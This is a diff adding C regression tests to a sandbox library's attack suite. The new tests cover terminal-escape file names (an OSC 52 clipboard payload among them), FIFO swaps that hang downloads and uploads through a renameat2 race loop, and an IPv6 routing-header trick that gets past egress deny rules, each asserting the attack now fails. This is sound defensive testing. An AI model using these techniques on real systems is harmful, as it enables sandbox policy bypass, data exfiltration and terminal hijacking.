@@ -29,6 +29,9 @@
 #include <sys/socket.h>
 #include <netinet/in.h>
 #include <arpa/inet.h>
+#include <net/if.h>
+#include <linux/if_ether.h>
+#include <linux/if_packet.h>
 #include <sys/vfs.h>
 #include <sys/wait.h>
 #include <linux/magic.h>
@@ -1353,6 +1356,269 @@ test_hardlink_download (void)
   g_assert_cmpint (stat (first, &st2), ==, 0);
   g_assert_cmpuint (st2.st_nlink, ==, 201);
   g_assert_cmpint (st2.st_size, ==, 1 << 20);
+
+  destroy (instance);
+  {
+    g_autofree char *rm = g_strdup_printf ("rm -rf '%s'", dir);
+    g_assert_true (g_spawn_command_line_sync (rm, NULL, NULL, NULL, NULL));
+  }
+}
+
+/* Whether MESSAGE could be shown on a terminal as it is: valid UTF-8,
+ * without a control character (C0, DEL, C1). */
+static gboolean
+is_displayable (const char *message)
+{
+  if (!g_utf8_validate (message, -1, NULL))
+    return FALSE;
+  for (const char *p = message; *p != '\0'; p = g_utf8_next_char (p))
+    {
+      gunichar c = g_utf8_get_char (p);
+
+      if (c < 0x20 || (c >= 0x7f && c < 0xa0))
+        return FALSE;
+    }
+  return TRUE;
+}
+
+/* A file name is any bytes but '/' and NUL, and the sandbox names its
+ * files: a download that fails on one put the name in its error message
+ * as it was, and `sandboxctl cp` printed it on the user's terminal, whose
+ * escape sequences then set the window's title, erased the line and put
+ * a command on the clipboard (OSC 52); bytes that are not UTF-8 made a
+ * GError message that is not UTF-8. Two failing downloads (a FIFO, a file
+ * the sandbox cannot read) under such names: each message is UTF-8
+ * without a control character, and shows the escapes (\x1b). */
+static void
+test_name_escapes (void)
+{
+  g_autoptr(GError) error = NULL;
+  g_autofree char *dir = g_dir_make_tmp ("libsandbox-attack-XXXXXX", &error);
+  g_autofree char *out = NULL;
+  SandboxInstance *instance = create (NULL);
+  int status = -1;
+
+  g_assert_no_error (error);
+  out = sh (instance,
+            "mkdir -p /workspace/fifo /workspace/closed && "
+            "mkfifo \"/workspace/fifo/$(printf 'a\\033]0;TITLE\\007\\033[2K\\033]52;c;ZWNobyBwd25lZAo=\\007b')\" && "
+            "f=\"/workspace/closed/$(printf '\\377\\033[31mred\\302\\233')\" && : > \"$f\" && chmod 000 \"$f\" && "
+            "echo made", &status);
+  g_assert_cmpint (status, ==, 0);
+  g_assert_cmpstr (out, ==, "made\n");
+
+  for (guint i = 0; i < 2; i++)
+    {
+      g_autofree char *dest = g_build_filename (dir, i == 0 ? "fifo" : "closed", NULL);
+      g_autoptr(GFile) file = g_file_new_for_path (dest);
+
+      g_clear_error (&error);
+      g_assert_false (sandbox_instance_download (instance, i == 0 ? "/workspace/fifo" : "/workspace/closed",
+                                                 file, NULL, &error));
+      g_assert_nonnull (error);
+      g_test_message ("%s", error->message);
+      g_assert_true (is_displayable (error->message));
+      g_assert_nonnull (strstr (error->message, "\\x1b"));
+    }
+
+  destroy (instance);
+  {
+    g_autofree char *rm = g_strdup_printf ("rm -rf '%s'", dir);
+    g_assert_true (g_spawn_command_line_sync (rm, NULL, NULL, NULL, NULL));
+  }
+}
+
+static void
+download_done (GObject      *source,
+               GAsyncResult *result,
+               gpointer      user_data)
+{
+  GError **error = user_data;
+
+  if (sandbox_instance_download_finish (SANDBOX_INSTANCE (source), result, error))
+    *error = g_error_new_literal (G_IO_ERROR, G_IO_ERROR_EXISTS, "copied");
+}
+
+/* A download into a host directory that the sandbox writes too (a
+ * read-write mount: the user copies a result into the project directory
+ * the sandbox has): the sandbox leaves a FIFO under the name the copy
+ * makes. The library opened it as a file, without O_NONBLOCK, and waited
+ * in open() for a reader for good: `sandboxctl cp` hung, and not even
+ * SIGTERM ended it (its copy thread stays in open()). With a reader the
+ * sandbox holds, the file went into its pipe. Now both downloads fail at
+ * once, naming the destination, and nothing reads the file. Control: the
+ * same download onto a regular file the sandbox left there. */
+static void
+test_fifo_destination (void)
+{
+  g_autoptr(GError) error = NULL;
+  g_autofree char *dir = g_dir_make_tmp ("libsandbox-attack-XXXXXX", &error);
+  g_autoptr(SandboxSpec) spec = sandbox_spec_new ();
+  g_autofree char *out = NULL;
+  SandboxInstance *instance;
+  int status = -1;
+
+  g_assert_no_error (error);
+  sandbox_spec_add_mount (spec, dir, "/data", FALSE);
+  instance = create (spec);
+  out = sh (instance,
+            "echo secret-result > /workspace/result && mkfifo /data/alone /data/read && "
+            "echo old > /data/plain && echo made", &status);
+  g_assert_cmpint (status, ==, 0);
+  g_assert_cmpstr (out, ==, "made\n");
+
+  for (guint i = 0; i < 3; i++)
+    {
+      static const char * const names[] = { "alone", "read", "plain" };
+      g_autofree char *dest = g_build_filename (dir, names[i], NULL);
+      g_autoptr(GFile) file = g_file_new_for_path (dest);
+      gint64 deadline = g_get_monotonic_time () + 15 * G_USEC_PER_SEC;
+      GError *result = NULL;
+      /* The FIFO's reader (the sandbox's, as far as the kernel can tell). */
+      int reader = i == 1 ? open (dest, O_RDONLY | O_NONBLOCK | O_CLOEXEC) : -1;
+
+      g_assert_true (i != 1 || reader >= 0);
+      sandbox_instance_download_async (instance, "/workspace/result", file, NULL, download_done, &result);
+      while (result == NULL && g_get_monotonic_time () < deadline)
+        if (!g_main_context_iteration (NULL, FALSE))
+          g_usleep (10000);
+      if (result == NULL)
+        {
+          /* Let the blocked open() go before failing. */
+          int fd = open (dest, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+
+          while (result == NULL)
+            g_main_context_iteration (NULL, TRUE);
+          if (fd >= 0)
+            close (fd);
+          g_error_free (result);
+          g_assert_not_reached ();   /* the download waited on the FIFO */
+        }
+      g_test_message ("%s: %s", names[i], result->message);
+      if (reader >= 0)
+        {
+          char buf[64];
+
+          /* Nothing went into the pipe. */
+          g_assert_cmpint (read (reader, buf, sizeof buf), <=, 0);
+          close (reader);
+        }
+      if (i < 2)
+        g_assert_error (result, SANDBOX_ERROR, SANDBOX_ERROR_INVALID_ARGUMENT);
+      else
+        {
+          g_autofree char *contents = NULL;
+
+          g_assert_error (result, G_IO_ERROR, G_IO_ERROR_EXISTS);   /* "copied" */
+          g_assert_true (g_file_get_contents (dest, &contents, NULL, NULL));
+          g_assert_cmpstr (contents, ==, "secret-result\n");
+        }
+      g_error_free (result);
+    }
+  destroy (instance);
+  {
+    g_autofree char *rm = g_strdup_printf ("rm -rf '%s'", dir);
+    g_assert_true (g_spawn_command_line_sync (rm, NULL, NULL, NULL, NULL));
+  }
+}
+
+static void
+upload_done (GObject      *source,
+             GAsyncResult *result,
+             gpointer      user_data)
+{
+  GError **error = user_data;
+
+  if (sandbox_instance_upload_finish (SANDBOX_INSTANCE (source), result, error))
+    *error = g_error_new_literal (G_IO_ERROR, G_IO_ERROR_EXISTS, "copied");
+}
+
+/* An upload from a host directory that the sandbox writes too (a
+ * read-write mount): the library looked at the file (fstatat: a regular
+ * file), then opened it without O_NONBLOCK, so a FIFO swapped in between
+ * (renameat2 RENAME_EXCHANGE, in a loop) made the open() wait for a writer
+ * for good. Now each of 400 uploads ends within its time, copied or
+ * refused. */
+static void
+test_fifo_upload_source (void)
+{
+  g_autoptr(GError) error = NULL;
+  g_autofree char *dir = g_dir_make_tmp ("libsandbox-attack-XXXXXX", &error);
+  g_autofree char *src = NULL, *out = NULL;
+  g_autoptr(SandboxSpec) spec = sandbox_spec_new ();
+  g_autoptr(GFile) file = NULL;
+  g_autoptr(SandboxCommand) swapper = NULL;
+  SandboxExecResult *swapped = NULL;
+  SandboxInstance *instance;
+  guint copied = 0, refused = 0;
+  int status = -1;
+
+  g_assert_no_error (error);
+  src = g_build_filename (dir, "f", NULL);
+  file = g_file_new_for_path (src);
+  sandbox_spec_add_mount (spec, dir, "/data", FALSE);
+  instance = create (spec);
+  out = sh (instance, "echo data > /data/f && mkfifo /data/p && echo made", &status);
+  g_assert_cmpstr (out, ==, "made\n");
+  /* Swaps f and p for 20 s, or until /data/stop appears. */
+  swapper = sandbox_command_new ((const char * const[]) {
+      "python3", "-c",
+      "import ctypes, os, time\n"
+      "libc = ctypes.CDLL(None, use_errno=True)\n"
+      "end = time.monotonic() + 20\n"
+      "while time.monotonic() < end and not os.path.exists('/data/stop'):\n"
+      "    for _ in range(200):\n"
+      "        libc.renameat2(-100, b'/data/f', -100, b'/data/p', 2)\n",
+      NULL });
+  sandbox_command_set_timeout_ms (swapper, 30000);
+  sandbox_instance_exec_async (instance, swapper, NULL, exec_done, &swapped);
+
+  for (guint i = 0; i < 400; i++)
+    {
+      g_autofree char *dest = g_strdup_printf ("/workspace/copy-%u", i);
+      gint64 deadline = g_get_monotonic_time () + 10 * G_USEC_PER_SEC;
+      GError *result = NULL;
+
+      sandbox_instance_upload_async (instance, file, dest, NULL, upload_done, &result);
+      while (result == NULL && g_get_monotonic_time () < deadline)
+        if (!g_main_context_iteration (NULL, FALSE))
+          g_usleep (1000);
+      if (result == NULL)
+        {
+          g_autofree char *stop = g_build_filename (dir, "stop", NULL);
+          g_autofree char *other = g_build_filename (dir, "p", NULL);
+          int fds[2];
+
+          /* Stop the swap, let the blocked open() go (the FIFO is f or p
+           * now: a writer for each), then fail. */
+          g_assert_true (g_file_set_contents (stop, "", 0, NULL));
+          g_usleep (G_USEC_PER_SEC);
+          fds[0] = open (src, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
+          fds[1] = open (other, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
+          g_usleep (G_USEC_PER_SEC / 10);
+          for (guint f = 0; f < 2; f++)
+            if (fds[f] >= 0)
+              close (fds[f]);
+          while (result == NULL)
+            g_main_context_iteration (NULL, TRUE);
+          g_error_free (result);
+          g_assert_not_reached ();   /* the upload waited on the FIFO */
+        }
+      if (g_error_matches (result, G_IO_ERROR, G_IO_ERROR_EXISTS))
+        copied++;
+      else
+        refused++;
+      g_error_free (result);
+    }
+  g_test_message ("400 uploads against the swap: %u copied, %u refused", copied, refused);
+  {
+    g_autofree char *stop = g_build_filename (dir, "stop", NULL);
+
+    g_assert_true (g_file_set_contents (stop, "", 0, NULL));
+  }
+  while (swapped == NULL)
+    g_main_context_iteration (NULL, TRUE);
+  g_object_unref (swapped);
 
   destroy (instance);
   {
@@ -3998,6 +4264,121 @@ test_egress_short_address (void)
     close (fds[i]);
 }
 
+/* Runs ARGV (a program on PATH) to its end; whether it succeeded. */
+static gboolean
+run_program (const char * const *argv)
+{
+  int status = -1;
+
+  return g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_SEARCH_PATH | G_SPAWN_STDOUT_TO_DEV_NULL,
+                       NULL, NULL, NULL, NULL, &status, NULL) &&
+         g_spawn_check_wait_status (status, NULL);
+}
+
+/* With egress rules, pid 1 checks each destination a command names; but
+ * an IPv6 routing header on the socket (setsockopt IPV6_RTHDR: a segment
+ * routing header needs no capability) makes the kernel send every packet
+ * to the header's next address first. Under "deny all but ::1", a
+ * datagram and a TCP SYN for ::1 went to the denied fd00:5ec::2 (seen on
+ * lo; a host there gets them whether it routes them on or not). Now the
+ * header is refused (EPERM), and a routing header given to one sendmsg()
+ * (a type 2 one, where the kernel has Mobile IPv6) is refused by pid 1
+ * (EACCES): nothing reaches the denied address. Run in a network
+ * namespace of its own, on whose lo the denied address is made; control:
+ * the datagram for ::1 is sent. */
+static void
+test_egress_routing_header (void)
+{
+  static const char probe[] =
+    "import socket\n"
+    "D = 'fd00:5ec::2'\n"
+    "def r(f):\n"
+    "    try:\n"
+    "        f()\n"
+    "        return 'ok'\n"
+    "    except OSError as e:\n"
+    "        return 'errno %s' % e.errno\n"
+    "srh = bytes([17, 4, 4, 1, 1, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, '::1') + "
+    "socket.inet_pton(socket.AF_INET6, D)\n"
+    "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n"
+    "print('direct', r(lambda: s.sendto(b'direct', (D, 9))))\n"
+    "print('srh', r(lambda: s.setsockopt(41, 57, srh)))\n"
+    "print('udp', r(lambda: s.sendto(b'exfil', ('::1', 9))))\n"
+    "t = socket.socket(socket.AF_INET6)\n"
+    "t.settimeout(2)\n"
+    "print('srh-tcp', r(lambda: t.setsockopt(41, 57, srh)))\n"
+    "r(lambda: t.connect(('::1', 9)))\n"
+    "u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n"
+    "rh2 = bytes([17, 2, 2, 1, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, D)\n"
+    "print('cmsg', r(lambda: u.sendmsg([b'exfil2'], [(41, 57, rh2)], 0, ('::1', 9))))\n";
+
+  if (g_test_subprocess ())
+    {
+      const char *allow[] = { "::1", NULL };
+      const char *deny_all[] = { "0.0.0.0/0", "::/0", NULL };
+      const char * const up[] = { "ip", "link", "set", "lo", "up", NULL };
+      const char * const add[] = { "ip", "-6", "addr", "add", "fd00:5ec::2/128", "dev", "lo", "nodad", NULL };
+      struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_protocol = htons (ETH_P_ALL) };
+      g_autoptr(SandboxSpec) spec = sandbox_spec_new ();
+      g_autofree char *quoted = g_shell_quote (probe);
+      g_autofree char *script = NULL, *out = NULL;
+      struct in6_addr denied;
+      SandboxInstance *instance;
+      guint to_denied = 0, to_allowed = 0;
+      guint8 buf[2048];
+      ssize_t n;
+      int cap;
+
+      g_assert_cmpint (unshare (CLONE_NEWNET), ==, 0);
+      g_assert_true (run_program (up));
+      g_assert_true (run_program (add));
+      g_assert_cmpint (inet_pton (AF_INET6, "fd00:5ec::2", &denied), ==, 1);
+      cap = socket (AF_PACKET, SOCK_RAW | SOCK_NONBLOCK | SOCK_CLOEXEC, htons (ETH_P_ALL));
+      g_assert_cmpint (cap, >=, 0);
+      ll.sll_ifindex = (int) if_nametoindex ("lo");
+      g_assert_cmpint (bind (cap, (struct sockaddr *) &ll, sizeof ll), ==, 0);
+
+      sandbox_spec_set_network (spec, TRUE);
+      sandbox_spec_set_egress_rules (spec, allow, deny_all);
+      instance = create (spec);
+      script = g_strdup_printf ("P=%s; /usr/bin/python3 -c \"$P\" 2>&1", quoted);
+      out = sh (instance, script, NULL);
+      g_test_message ("%s", out);
+      destroy (instance);
+      /* Every IPv6 packet lo carried meanwhile (each is seen twice). */
+      while ((n = recv (cap, buf, sizeof buf, 0)) > 0)
+        if (n >= 14 + 40 && (buf[14] >> 4) == 6)
+          {
+            if (memcmp (buf + 14 + 24, &denied, 16) == 0)
+              to_denied++;
+            else if (memcmp (buf + 14 + 24, &in6addr_loopback, 16) == 0)
+              to_allowed++;
+          }
+      close (cap);
+      g_test_message ("packets to the denied address: %u, to ::1: %u", to_denied, to_allowed);
+      g_assert_cmpuint (to_denied, ==, 0);
+      g_assert_cmpuint (to_allowed, >, 0);
+      g_assert_cmpstr (out, ==, "direct errno 13\nsrh errno 1\nudp ok\nsrh-tcp errno 1\ncmsg errno 13\n");
+      return;
+    }
+  if (geteuid () != 0 || !have_python ())
+    {
+      g_test_skip ("needs root (a network namespace, a packet socket) and /usr/bin/python3");
+      return;
+    }
+  {
+    g_autofree char *ip = g_find_program_in_path ("ip");
+
+    if (ip == NULL)
+      {
+        g_test_skip ("needs ip(8)");
+        return;
+      }
+  }
+  g_test_trap_subprocess (NULL, 120 * G_USEC_PER_SEC, G_TEST_SUBPROCESS_INHERIT_STDERR);
+  g_test_trap_assert_passed ();
+}
+
 int
 main (int argc, char **argv)
 {
@@ -4017,6 +4398,9 @@ main (int argc, char **argv)
   g_test_add_func ("/local/attack/signal-host", test_signal_host);
   g_test_add_func ("/local/attack/sparse-download", test_sparse_download);
   g_test_add_func ("/local/attack/hardlink-download", test_hardlink_download);
+  g_test_add_func ("/local/attack/name-escapes", test_name_escapes);
+  g_test_add_func ("/local/attack/fifo-destination", test_fifo_destination);
+  g_test_add_func ("/local/attack/fifo-upload-source", test_fifo_upload_source);
   g_test_add_func ("/local/attack/stopped-file-service", test_stopped_file_service);
   g_test_add_func ("/local/attack/signal-commands", test_signal_commands);
   g_test_add_func ("/local/attack/stop-spawner", test_stop_spawner);
@@ -4041,6 +4425,7 @@ main (int argc, char **argv)
   g_test_add_func ("/local/attack/outlive-destroy", test_outlive_destroy);
   g_test_add_func ("/local/attack/no-route", test_no_route);
   g_test_add_func ("/local/attack/egress-short-address", test_egress_short_address);
+  g_test_add_func ("/local/attack/egress-routing-header", test_egress_routing_header);
   g_test_add_func ("/local/attack/reuseport-host", test_reuseport_host);
   g_test_add_func ("/local/attack/reuseaddr-udp-host", test_reuseaddr_udp_host);
   g_test_add_func ("/local/attack/core-dumps", test_core_dumps);
